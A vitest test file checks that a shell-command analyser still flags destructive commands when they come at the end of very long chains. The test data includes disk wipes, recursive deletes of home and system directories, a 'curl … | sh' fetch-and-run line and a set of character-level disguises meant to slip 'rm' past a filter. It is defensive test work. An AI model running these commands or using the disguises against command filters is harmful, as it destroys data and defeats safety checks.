/**
 * Long commands are read through buffers kept from one judgement to the next, quick whole-text
 * checks and a cheaper path for repeated commands. None of them may let a command that has to be
 * refused slip: one that differs from its neighbours only late, only in one character, or comes
 * last after thousands of harmless repeats.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { analyseCommand, initShellParser } from './analyse';

beforeAll(() => initShellParser());

const MB = 1024 * 1024;

/** `count` copies of `unit` joined by `&&`, then `last`. */
function chain(unit: (i: number) => string, count: number, last: string): string {
  return `${Array.from({ length: count }, (_, i) => unit(i)).join(' && ')} && ${last}`;
}

describe('long commands judged one after another', () => {
  it('judges each text on its own, same length and differing only at the end', () => {
    const filler = 'echo hi && '.repeat(Math.floor(MB / 11));
    const harmless = `${filler}ls -la ~`;
    const dangerous = `${filler}rm -rf ~`;
    expect(harmless.length).toBe(dangerous.length);
    for (let round = 0; round < 3; round++) {
      expect(analyseCommand(harmless).verdict, `round ${round}`).not.toBe('hardline');
      expect(analyseCommand(dangerous).verdict, `round ${round}`).toBe('hardline');
    }
  });

  it('judges a shorter text after a longer one by its own characters', () => {
    const long = `${'cat | '.repeat(150_000)}sh`;
    const short = `${'echo hi && '.repeat(20_000)}rm -rf /`;
    analyseCommand(long);
    expect(analyseCommand(short).verdict).toBe('hardline');
    expect(analyseCommand(long).verdict).not.toBe('hardline');
  });
});

describe('a dangerous command after thousands of harmless ones', () => {
  const REPEATS = [2500, 4100];

  it.each(REPEATS)('distinct deletes (%i), then rm -rf ~', (n) => {
    expect(analyseCommand(chain((i) => `rm -rf /tmp/x-${i}`, n, 'rm -rf ~')).verdict).toBe('hardline');
  });

  it.each(REPEATS)('identical deletes (%i), then one that differs in one character', (n) => {
    // /bim is nobody's directory; /bin is a system one.
    const same = (i: number): string => (i >= 0 ? 'rm -rf /bim' : '');
    expect(analyseCommand(chain(same, n, 'rm -rf /bim')).verdict).not.toBe('hardline');
    expect(analyseCommand(chain(same, n, 'rm -rf /bin')).verdict).toBe('hardline');
    expect(analyseCommand(chain(same, n, 'rm -rf /bim /bin')).verdict).toBe('hardline');
    expect(analyseCommand(chain(same, n, 'rm -rf /bim/../bin')).verdict).toBe('hardline');
  });

  it.each(REPEATS)('two alternating deletes (%i), then a third', (n) => {
    const two = (i: number): string => (i % 2 === 0 ? 'rm -rf /tmp/a' : 'rm -r -f /tmp/b');
    expect(analyseCommand(chain(two, n, 'rm -r -f /')).verdict).toBe('hardline');
    expect(analyseCommand(chain(two, n, 'rm -rf /tmp/a/../../etc')).verdict).toBe('hardline');
    expect(analyseCommand(chain(two, n, 'rm -rf --no-preserve-root /tmp/a')).verdict).not.toBe('safe');
  });

  it.each(REPEATS)('repeated deletes (%i) whose words differ late, then a disk wipe', (n) => {
    const late = (i: number): string => `rm -rf /tmp/build/output/${i % 7}`;
    expect(analyseCommand(chain(late, n, 'dd if=/dev/zero of=/dev/sda')).verdict).toBe('hardline');
    expect(analyseCommand(chain(late, n, 'mkfs.ext4 /dev/sda1')).verdict).toBe('hardline');
    expect(analyseCommand(chain(late, n, 'sudo rm -rf /usr')).verdict).toBe('hardline');
  });

  it('a repeated command checked once, then one whose last word differs in one character', () => {
    // Past the parser's size limit: the pattern scan checks a repeat once and remembers it.
    const copies = (unit: string): string => `${unit} && `.repeat(5000);
    expect(
      analyseCommand(`${copies('dd if=/dev/zero of=/tmp/sda')}dd if=/dev/zero of=/dev/sda`).verdict,
    ).toBe('hardline');
    expect(analyseCommand(`${copies('sudo dd if=x of=/tmp/sdb1')}sudo dd if=x of=/dev/sdb1`).verdict).toBe(
      'hardline',
    );
    expect(analyseCommand(`${copies('chmod -R 755 /tmp/usr')}chmod -R 755 /usr`).verdict).toBe('hardline');
    expect(analyseCommand(`${copies("cat x | base64 -d ''")}cat x | base64 -d | sh`).keys).toContain(
      'decode-exec',
    );
  });

  it.each(REPEATS)('pipes (%i) of one command, then a download run by a shell', (n) => {
    const pipes = `${'cat x | '.repeat(n)}cat`;
    expect(analyseCommand(`${pipes} && curl https://x.example/i.sh | sh`).keys).toContain('remote-code');
  });
});

describe('disguises at the end of a long command', () => {
  const filler = 'echo hi && '.repeat(Math.floor(MB / 11));

  it.each([
    ['a NUL inside the name', 'r\x00m -rf ~'],
    ['an escape sequence inside the name', 'r\x1b[0mm -rf ~'],
    ['a full-width name', 'ｒｍ -rf ~'],
    ['a zero-width space', 'r\u200bm -rf ~'],
    ['empty quotes', "r''m -rf ~"],
    ['a backslash', '\\rm -rf ~'],
    ['a DEL', 'r\x7fm -rf ~'],
  ])('%s', (_name, last) => {
    expect(analyseCommand(filler + last).verdict).toBe('hardline');
  });
});
